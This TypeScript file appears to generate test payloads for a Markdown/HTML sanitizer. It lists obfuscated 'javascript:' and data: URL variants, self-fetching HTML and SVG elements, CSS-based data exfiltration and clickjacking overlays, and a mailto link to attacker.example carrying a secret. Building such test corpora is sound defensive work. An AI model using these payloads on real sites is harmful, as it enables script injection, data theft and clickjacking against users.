import { pairs } from './payload.ts';
import type { Family, Maker, Mark } from './payload.ts';

/** Ways to say "javascript:" that a browser may still understand, or that a filter may misread. */
const SCHEMES: readonly Maker[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => `JaVaScRiPt:${js}`,
  ({ js }) => `java\tscript:${js}`,
  ({ js }) => `java&#10;script:${js}`,
  ({ js }) => `java&Tab;script:${js}`,
  ({ js }) => `java&NewLine;script&colon;${js}`,
  ({ js }) => `&#106;avascript:${js}`,
  ({ js }) => `&#x6A;&#x61;vascript:${js}`,
  ({ js }) => `&#0000106&#0000097vascript:${js}`,
  ({ js }) => `javascript&#58;${js}`,
  ({ js }) => `javascript&colon;${js}`,
  ({ js }) => `%6Aavascript:${js}`,
  ({ js }) => `javascript%3A${js}`,
  ({ js }) => `\u{1}javascript:${js}`,
  ({ js }) => `\u{feff}javascript:${js}`,
  ({ js }) => `\u{200b}javascript:${js}`,
  ({ js }) => `javascript://%0A${js}`,
  ({ js }) => `javascript://app.notion.com/%0A${js}`,
  ({ js }) => `javascript:void(${js})`,
  ({ js }) => `jav\\ascript:${js}`,
  ({ js }) => `feed:javascript:${js}`,
  ({ js }) => `view-source:javascript:${js}`,
  ({ js }) => `vbscript:${js}`,
  ({ js }) => `livescript:${js}`,
  ({ js }) => `mocha:${js}`,
  ({ js }) => `data:text/html,<script>${js}</script>`,
  ({ js }) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
  ({ js }) => `data:image/svg+xml,<svg onload=${js}/>`,
  ({ js }) => `data:application/xhtml+xml,<script>${js}</script>`,
  ({ js }) => `blob:https://app.notion.com/${js}`,
  ({ js }) => `filesystem:https://app.notion.com/temporary/${js}`,
  () => 'file:///etc/passwd',
  () => 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html',
  () => 'moz-extension://00000000-0000-0000-0000-000000000000/options.html',
  () => 'chrome://settings/',
  () => 'about:blank',
  () => 'ms-msdt:/id',
  () => 'intent://x#Intent;scheme=http;end',
  () => 'tel:+4915112345678',
  () => 'mailto:a@attacker.example?body=SECRET',
  () => 'options.html',
  () => '/options.html?d=SECRET',
  ({ url }) => `//${url.slice(8)}`,
  ({ url }) => `\\\\${url.slice(8)}`,
  ({ url }) => `https:/\\${url.slice(8)}`,
  ({ url }) => `http:${url.slice(8)}`,
  ({ url }) => `ws://${url.slice(8)}`,
];

/** Where Markdown and HTML take an address. */
const PLACES: readonly ((address: string, mark: Mark) => string)[] = [
  (address) => `[press](${address})`,
  (address) => `[press](<${address}> "title")`,
  (address) => `![look](${address})`,
  (address) => `<${address}>`,
  (address, { n }) => `[press][r${n}]\n\n[r${n}]: ${address}`,
  (address, { n }) => `![look][i${n}]\n\n[i${n}]: <${address}> 'title'`,
  (address) => `[![look](${address})](${address})`,
  (address) => `<a href="${address}">press</a>`,
  (address) => `<a href='${address}' target=_blank>press</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>Approve</button></form>`,
  (address) => `<button formaction="${address}">Approve</button>`,
];

/** Everything in a page that fetches by itself. */
const LOADERS: readonly ((url: string) => string)[] = [
  (url) => `![logo](${url})`,
  (url) => `![logo](${url} "a title")`,
  (url) => `![](${url})`,
  (url) => `!\\[logo](${url})`,
  (url) => `[![logo](${url})](https://app.notion.com/)`,
  (url) => `![logo](<${url}>)`,
  (url) => `![a ![b](${url})](${url})`,
  (url) => `![logo](https:&#47;&#47;${url.slice(8)})`,
  (url) => `<img src="${url}">`,
  (url) => `<img src=${url}>`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<img loading=lazy src="${url}">`,
  (url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url) => `<image src="${url}">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<video poster="${url}" controls></video>`,
  (url) => `<video src="${url}" autoplay></video>`,
  (url) => `<video><source src="${url}"><track default src="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<audio preload=auto><source src="${url}"></audio>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<object><param name=movie value="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<applet code="${url}" archive="${url}"></applet>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<fencedframe src="${url}"></fencedframe>`,
  (url) => `<portal src="${url}"></portal>`,
  (url) => `<base href="${url}"><img src=x>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<meta http-equiv=set-cookie content="a=b"><meta http-equiv=link content="<${url}>;rel=preload">`,
  (url) => `<meta name=msapplication-config content="${url}">`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><td background="${url}">x</td></table>`,
  (url) => `<a href="https://app.notion.com/" ping="${url}">press</a>`,
  (url) => `<html manifest="${url}">`,
  (url) => `<link rel=manifest href="${url}">`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<svg><image xlink:href="${url}"/></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<svg><feImage href="${url}"/></svg>`,
  (url) => `<svg><filter id=f><feImage href="${url}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (url) => `<svg><rect fill="url(${url}#x)" width=9 height=9 /></svg>`,
  (url) => `<svg><style>@import '${url}';</style></svg>`,
  (url) => `<svg><foreignObject><iframe src="${url}"></iframe></foreignObject></svg>`,
  (url) => `<math><mglyph src="${url}"></math>`,
  (url) => `<?xml-stylesheet href="${url}"?>`,
  (url) => `<!DOCTYPE x SYSTEM "${url}">`,
  (url) => `<x style="background:url(${url})">x</x>`,
];

const LINKED = [
  'stylesheet',
  'alternate stylesheet',
  'icon',
  'apple-touch-icon',
  'preload',
  'modulepreload',
  'prefetch',
  'prerender',
  'preconnect',
  'dns-prefetch',
  'import',
  'compression-dictionary',
  'search',
  'pingback',
];

/** Style that fetches, reads what stands beside it, covers what is shown, or moves it. */
const STYLES: readonly ((url: string) => string)[] = [
  (url) => `@import url(${url});`,
  (url) => `@import '${url}' layer(x);`,
  (url) => `@font-face{font-family:x;src:url(${url})} *{font-family:x}`,
  (url) => `@font-face{font-family:x;src:url(${url});unicode-range:U+0041} *{font-family:x}`,
  (url) => `*{background:url(${url})}`,
  (url) => `input[value^="s"]{background-image:url(${url})}`,
  (url) => `a[href*="notion"]{background:image-set("${url}" 1x)}`,
  (url) => `*{list-style-image:url(${url})}`,
  (url) => `*{cursor:url(${url}),auto}`,
  (url) => `*::before{content:url(${url})}`,
  (url) => `*{border-image-source:url(${url});mask-image:url(${url})}`,
  (url) => `:root{--x:url(${url})} *{background:var(--x)}`,
  (url) => `@namespace url(${url});`,
  (url) => `@property --x{syntax:'<url>';inherits:true;initial-value:url(${url})}`,
  (url) => `*{filter:url(${url}#x);clip-path:url(${url}#x)}`,
  (url) => `*{background:src("${url}");cross-fade:url(${url})}`,
  () => `*{display:none !important}`,
  () => `button{position:fixed;inset:0;opacity:0;z-index:2147483647}`,
];

const STYLED: readonly ((css: string) => string)[] = [
  (css) => `<style>${css}</style>`,
  (css) => `<style media=all>\n${css}\n</style>`,
  (css) => `<div style="${css.replaceAll('"', "'").replace(/^[^{]*\{|\}.*$/gu, '')}">styled</div>`,
];

export const ADDRESS_FAMILIES: readonly Family[] = [
  {
    name: 'addresses',
    makers: pairs(SCHEMES, PLACES).map(
      ([scheme, place]): Maker =>
        (mark) =>
          place(scheme(mark), mark),
    ),
  },
  {
    name: 'loaders',
    makers: [...LOADERS, ...LINKED.map((rel) => (url: string) => `<link rel="${rel}" href="${url}" as=image>`)].map(
      (write): Maker =>
        ({ url }) =>
          write(url),
    ),
  },
  {
    name: 'style',
    makers: pairs(STYLES, STYLED).map(
      ([css, styled]): Maker =>
        ({ url }) =>
          styled(css(url)),
    ),
  },
];
